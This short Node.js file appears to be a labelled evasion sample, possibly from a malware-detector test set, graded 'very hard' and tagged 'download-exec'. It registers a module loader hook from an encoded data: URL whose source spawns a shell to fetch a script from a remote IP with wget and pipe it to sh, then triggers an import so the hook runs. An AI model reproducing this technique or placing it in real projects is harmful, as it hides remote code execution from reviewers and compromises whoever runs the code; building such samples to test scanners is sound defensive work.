// evasion: a module customisation hook registered from a data: URL (module.register); the hook's own source, run in the loader thread, downloads and runs a script
// grade: very hard; does: download-exec
'use strict';
const { register } = require('node:module');

const hook = [
  "import { execFile } from 'node:child_process';",
  "execFile('/bin/sh', ['-c', 'wget -qO- http://198.51.100.4/a | sh'], () => {});",
  'export async function resolve(s, c, next) { return next(s, c); }',
].join('\n');

register(`data:text/javascript,${encodeURIComponent(hook)}`);
import('node:os').then(() => {});
